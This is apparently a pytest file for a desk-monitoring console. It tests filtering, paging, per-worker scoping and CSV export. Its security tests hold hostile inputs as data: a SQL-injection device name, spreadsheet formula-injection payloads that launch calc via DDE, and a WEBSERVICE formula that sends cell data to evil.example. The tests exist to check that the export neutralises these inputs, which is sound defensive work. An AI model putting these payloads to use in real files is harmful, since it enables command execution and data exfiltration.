"""The queue's SQL on SQLite and PostgreSQL: every filter, keyset paging both ways, counts
per filter and the CSV export agree with the same question answered in Python."""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import random
import struct
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from nacl.secret import SecretBox

from deskwatch_collector.auth import User
from deskwatch_collector.console import queue, review
from deskwatch_collector.console.queue import BadFilter, Filters, parse_filters
from deskwatch_collector.console.vocab import RULE_LABELS, RULES
from deskwatch_collector.store import Store
from deskwatch_contract import load_schema
from tests.support.console import T0, Desk, store_messages

SUP = User("alice", "supervisor", ("acme", "globex", "initech"), None)
UTC = ZoneInfo("UTC")
KEPT_FROM = (T0 - timedelta(days=20)).timestamp()  # the console on T0 with the 20-day retention


@pytest.fixture(params=["sqlite", "postgresql"])
def seeded(request: pytest.FixtureRequest, console_store: Callable[[str], Store]) -> tuple[Store, list[dict[str, Any]]]:
    """150 findings on 6 desks in 3 sites over 10 days, some reviewed and contested; 2 share a time."""
    store = console_store(request.param)
    rng = random.Random(4)
    desks = [Desk(site, f"{site}-d{i}", f"w-{site}-{i}") for site in ("acme", "globex", "initech") for i in (1, 2)]
    messages = []
    for n in range(150):
        desk = desks[rng.randrange(len(desks))]
        at = T0 - timedelta(minutes=rng.randrange(10 * 24 * 60)) if n != 149 else T0 - timedelta(hours=5)
        messages += desk.finding(rng.choice(RULES), at if n != 148 else T0 - timedelta(hours=5))
    store_messages(store, messages, T0.timestamp())
    events = [e for d in desks for e in d.sent]
    with store.transaction() as tx:
        for ev in events[::3]:
            review.review(tx, SUP, ev["event_id"], "acknowledge", None, "", T0.timestamp())
        for ev in events[1::5]:
            review.review(tx, SUP, ev["event_id"], "dismiss", "misread_object", "", T0.timestamp())
        for ev in events[2::7]:
            worker = User(ev["worker_id"], "worker", (ev["site"],), ev["worker_id"])
            review.contest(tx, worker, ev["event_id"], "not me", T0.timestamp())
    return store, events


def state_of(store: Store) -> dict[str, tuple[str, bool]]:
    with store.transaction(write=False) as tx:
        rows = tx.rows("SELECT event_id, review_state, contested_at IS NOT NULL FROM events")
    return {r[0]: (r[1], bool(r[2])) for r in rows}


def expected(events: list[dict[str, Any]], states: dict[str, tuple[str, bool]], f: Filters) -> list[str]:
    def keep(e: dict[str, Any]) -> bool:
        state, contested = states[e["event_id"]]
        ts = e["_ts"]
        return (
            e["site"] in f.sites
            and (f.view == "all" or (f.view == "contested" and contested) or state == f.view)
            and (not f.types or e["type"] in f.types)
            and (not f.device or e["device_id"] == f.device)
            and (not f.worker or e["worker_id"] == f.worker)
            and (f.since is None or ts >= f.since)
            and (f.until is None or ts < f.until)
        )

    with_ts = sorted((e for e in events if keep(e)), key=lambda e: (e["_ts"], e["_id"]), reverse=True)
    return [e["event_id"] for e in with_ts]


def annotate(store: Store, events: list[dict[str, Any]]) -> None:
    with store.transaction(write=False) as tx:
        rows = {r[0]: (float(r[1]), int(r[2])) for r in tx.rows("SELECT event_id, detected_ts, id FROM events")}
    for e in events:
        e["_ts"], e["_id"] = rows[e["event_id"]]


CASES = [
    {"view": ["all"]},
    {"view": ["open"]},
    {"view": ["dismissed"], "site": ["acme", "globex"]},
    {"view": ["contested"]},
    {"view": ["all"], "type": ["phone_use", "eating"]},
    {"view": ["acknowledged"], "device": ["globex-d1"]},
    {"view": ["all"], "worker": ["w-acme-2"]},
    {"view": ["all"], "from": ["2026-11-25"], "to": ["2026-11-28"]},
    {"view": ["open"], "site": ["initech"], "type": ["away_from_desk"], "from": ["2026-11-21"]},
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: "&".join(f"{k}={','.join(v)}" for k, v in c.items()))
def test_pages_older_then_newer_cover_the_filter_exactly(seeded: tuple[Store, list[dict[str, Any]]],
                                                         case: dict[str, list[str]]) -> None:  # fmt: skip
    store, events = seeded
    annotate(store, events)
    f = parse_filters(case, SUP, UTC)
    want = expected(events, state_of(store), f)
    with store.transaction(write=False) as tx:
        pages = [queue.page(tx, f, kept_from=KEPT_FROM, limit=7)]
        while pages[-1].older:
            pages.append(queue.page(tx, f, kept_from=KEPT_FROM, before=pages[-1].older, limit=7))
        got = [e["event_id"] for p in pages for e in p.events]
        assert got == want  # every match once, newest first, the tie broken by id
        assert pages[0].newer is None and (len(pages) == 1 or pages[1].newer is not None)
        back = [pages[-1]]  # walk back up with the "newer" cursors
        while back[-1].newer:
            back.append(queue.page(tx, f, kept_from=KEPT_FROM, after=back[-1].newer, limit=7))
        # Going back gives the same pages in reverse, each newest first, ending on the first page.
        assert [[e["event_id"] for e in p.events] for p in back] == [
            [e["event_id"] for e in p.events] for p in reversed(pages)
        ]
        counts = queue.counts(tx, f)
        # An event's "older"/"newer" neighbours are the queue's next and previous.
        walk = pages[0].events[:1]
        while walk and len(walk) < 12 and (nxt := queue.neighbour(tx, f, walk[-1], newer=False)):
            walk.append(nxt)
        assert [e["event_id"] for e in walk] == want[:12]
        if len(walk) > 1:
            assert queue.neighbour(tx, f, walk[1], newer=True)["event_id"] == want[0]  # type: ignore[index]
            assert queue.neighbour(tx, f, walk[0], newer=True) is None
    assert counts.total == len(want)
    everything = parse_filters({**case, "view": ["all"], "type": []}, SUP, UTC)
    states = state_of(store)
    for view in ("open", "acknowledged", "dismissed", "contested", "all"):
        per_view = expected(events, states, Filters(**{**f.__dict__, "view": view}))
        assert counts.by_view[view] == len(per_view), view
    for rule in RULES:
        per_rule = expected(events, states, Filters(**{**f.__dict__, "types": (rule,)}))
        assert counts.by_type[rule] == len(per_rule), rule
    assert sum(counts.by_type.values()) == len(expected(events, states, Filters(**{**f.__dict__, "types": ()})))
    assert everything.view == "all"


def test_bad_queries_get_a_clear_error() -> None:
    for query, why in [
        ({"view": ["everything"]}, "view"),
        ({"type": ["sleeping"]}, "not a rule"),
        ({"device": ["desk 1; DROP TABLE events"]}, "letters, digits"),
        ({"site": ["umbrella"]}, "not one of your sites"),
        ({"from": ["2026-02-30"]}, "not a date"),
        ({"to": ["9999-12-31"]}, "^to: '9999-12-31' is outside 1970-01-01 to 2099-12-31"),  # its day's end: year 10000
        ({"from": ["0001-01-01"]}, "^from: '0001-01-01' is outside"),
        ({"from": ["2026-11-20"], "to": ["2026-11-10"]}, "ends before it starts"),
        ({"view": ["open", "all"]}, "once"),
    ]:
        with pytest.raises(BadFilter, match=why):
            parse_filters(query, SUP, UTC)
    box = SecretBox(bytes(32))
    plain = base64.urlsafe_b64encode(struct.pack(">dq", 1.0e9, 7)).decode()  # the cursor before it was sealed
    for cursor in ("x", "AAAA", "f" * 30, "__--", plain, queue.encode_cursor(SecretBox(bytes([1] * 32)), 1.0e9, 7)):
        with pytest.raises(BadFilter, match="cursor"):
            queue.decode_cursor(box, cursor)
    with pytest.raises(BadFilter, match="limit"):
        queue.page_size({"limit": ["0"]})


def test_every_contract_rule_is_a_filter_with_a_label() -> None:
    """The console's rules are the contract's event types, each with the console's own words."""
    types = load_schema("event")["properties"]["type"]["enum"]
    assert list(RULES) == types and "presentation_attack" in RULES
    assert all(RULE_LABELS.get(t) and RULE_LABELS[t] != t for t in types)
    assert set(RULE_LABELS) == set(types)
    assert parse_filters({"type": ["presentation_attack"]}, SUP, UTC).types == ("presentation_attack",)


def test_csv_holds_no_transaction_between_pages(
    seeded: tuple[Store, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A slow download reads page by page, each in its own short transaction: while the
    client reads, the export holds no connection (8 slow downloads used to hold the pool)."""
    store, events = seeded
    monkeypatch.setattr(queue, "PAGE_MAX", 8)  # 40 rows a page: 4 pages
    open_now, opened = [0], [0]
    real = store.transaction

    @contextlib.contextmanager
    def counted(*args: Any, **kwargs: Any) -> Iterator[Any]:
        open_now[0] += 1
        opened[0] += 1
        try:
            with real(*args, **kwargs) as tx:
                yield tx
        finally:
            open_now[0] -= 1

    monkeypatch.setattr(store, "transaction", counted)
    lines = queue.csv_lines(store, parse_filters({"view": ["all"]}, SUP, UTC), UTC, kept_from=KEPT_FROM)
    chunks = []
    for chunk in lines:
        assert open_now[0] == 0, "a transaction stays open while the client reads"
        chunks.append(chunk)
    assert opened[0] == len(chunks) == 4
    assert len(list(csv.DictReader(io.StringIO("".join(chunks))))) == len(events)


def test_a_worker_sees_only_their_own_findings(seeded: tuple[Store, list[dict[str, Any]]]) -> None:
    store, events = seeded
    worker = User("w-acme-1", "worker", ("acme", "globex"), "w-acme-1")
    f = parse_filters({"worker": ["w-globex-1"]}, worker, UTC)  # asking for someone else changes nothing
    with store.transaction(write=False) as tx:
        mine = queue.page(tx, f, kept_from=KEPT_FROM, limit=200).events
        assert mine == [] and queue.counts(tx, f).total == 0
        own = queue.page(tx, parse_filters({}, worker, UTC), kept_from=KEPT_FROM, limit=200).events
    assert {e["worker_id"] for e in own} == {"w-acme-1"}
    assert len(own) == sum(1 for e in events if e["worker_id"] == "w-acme-1")


def test_no_filters_show_a_worker_others_findings(seeded: tuple[Store, list[dict[str, Any]]]) -> None:
    """Filters start from the account's scope: built by hand, with sites or a worker named,
    they still hold a worker account to its own findings."""
    store, events = seeded
    worker = User("w-acme-1", "worker", ("acme",), "w-acme-1")
    mine = sorted(e["event_id"] for e in events if e["worker_id"] == "w-acme-1")
    with store.transaction(write=False) as tx:
        for f in (
            Filters(user=worker, view="all"),
            Filters(user=worker, sites=("acme", "globex", "initech"), view="all"),
            Filters(user=worker, view="all", worker="w-globex-1"),
        ):
            shown = queue.page(tx, f, kept_from=KEPT_FROM, limit=200).events
            assert {e["worker_id"] for e in shown} <= {"w-acme-1"}, f
            assert queue.counts(tx, f).total == len(shown) <= len(mine)
        assert (
            sorted(
                e["event_id"]
                for e in queue.page(tx, Filters(user=worker, view="all"), kept_from=KEPT_FROM, limit=200).events
            )
            == mine
        )
        wide = Filters(user=SUP, view="all")
        assert wide.sites == SUP.sites and queue.counts(tx, wide).total == len(events)


def test_csv_has_every_filtered_row_no_picture_and_no_formulas(seeded: tuple[Store, list[dict[str, Any]]]) -> None:
    store, events = seeded
    with store.transaction() as tx:
        review.review(tx, SUP, events[0]["event_id"], "dismiss", "other", '=HYPERLINK("http://x")', T0.timestamp())
    # what a device sends is no safer than a note: a name that is a sum, a reason that is a formula
    rogue = Desk("acme", "-7-7", "-2-3")
    messages = rogue.finding("phone_use", T0 - timedelta(hours=1))
    topic, payload, props = messages[0]
    messages[0] = (
        topic,
        payload.replace(b'"evidence_reason": "rule"', b'"evidence_reason": "=cmd|\' /c calc\'!A0"'),
        props,
    )
    store_messages(store, messages, T0.timestamp())
    f = parse_filters({"view": ["all"]}, SUP, ZoneInfo("Europe/Berlin"))
    text = "".join(queue.csv_lines(store, f, ZoneInfo("Europe/Berlin"), kept_from=KEPT_FROM))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(events) + 1 and {r["zone"] for r in rows} == {"Europe/Berlin"}
    bad = next(r for r in rows if r["event_id"] == rogue.sent[0]["event_id"])
    assert (bad["device_id"], bad["worker_id"]) == ("'-7-7", "'-2-3") and bad["picture"].startswith("'=cmd")
    assert not any(v[:1] in ("=", "+", "-", "@") for r in rows for v in r.values()), "a cell a spreadsheet runs"
    first = next(r for r in rows if r["event_id"] == events[0]["event_id"])
    assert first["review_note"].startswith("'=") and first["review_state"] == "dismissed"
    assert first["detected_at_utc"].endswith("Z") and first["detected_at_local"] != first["detected_at_utc"][:19]
    assert "evidence" not in text and "/evidence/" not in text and "\xff\xd8" not in text


def test_a_csv_cut_at_its_limit_says_so_in_the_file(seeded: tuple[Store, list[dict[str, Any]]]) -> None:
    """Findings arriving between the route's count and the export's last page push the oldest
    past the cap: the file ends with a row saying it was cut, instead of looking complete."""
    store, events = seeded
    f = parse_filters({"view": ["all"]}, SUP, UTC)
    text = "".join(queue.csv_lines(store, f, UTC, kept_from=KEPT_FROM, limit=len(events) - 3))
    assert text.rstrip().splitlines()[-1].startswith(f"# cut at {len(events) - 3} findings: more match")
    whole = "".join(queue.csv_lines(store, f, UTC, kept_from=KEPT_FROM, limit=len(events)))
    assert "# cut" not in whole and len(list(csv.DictReader(io.StringIO(whole)))) == len(events)


def test_no_cell_of_the_csv_starts_a_formula_whatever_the_spreadsheets_list_separator(
    seeded: tuple[Store, list[dict[str, Any]]],
) -> None:
    """German, French or Dutch Excel splits a CSV at ';' and ignores the quotes ',' put around
    a note (they sit in the middle of its ';' field): a note 'x;=WEBSERVICE(...)' was a cell
    starting with '='. The bytes are split as each separator splits them (a quote counts only
    at a cell's start, as there) and no cell may begin with a sign, blanks before it or not."""
    store, events = seeded
    notes = [
        'fine;=WEBSERVICE("http://evil.example/?"&B2)',
        "ok; @SUM(1+1)*cmd|' /C calc'!A0",
        "a,+1\n-2\r\n =3\t@4",
        "desk 3 - phone, worker -ok; all well",
    ]
    with store.transaction() as tx:
        for ev, note in zip(events, notes, strict=False):
            review.review(tx, SUP, ev["event_id"], "dismiss", "other", note, T0.timestamp())
        review.contest(tx, User(events[4]["worker_id"], "worker", (events[4]["site"],), events[4]["worker_id"]),
                       events[4]["event_id"], "x;-1+1", T0.timestamp())  # fmt: skip
    text = "".join(queue.csv_lines(store, parse_filters({"view": ["all"]}, SUP, UTC), UTC, kept_from=KEPT_FROM))
    raw = text.encode("utf-8")
    for sep in (",", ";", "\t"):
        for line in raw.decode("utf-8").splitlines():
            for cell in line.split(sep):
                stripped = cell.lstrip(' "\t')
                assert stripped[:1] not in ("=", "+", "-", "@"), (sep, cell)
    rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows[events[0]["event_id"]]["review_note"] == 'fine;\'=WEBSERVICE("http://evil.example/?"&B2)'
    assert rows[events[3]["event_id"]]["review_note"] == "desk 3 - phone, worker -ok; all well"  # words stay
    assert rows[events[4]["event_id"]]["contest_note"] == "x;'-1+1"
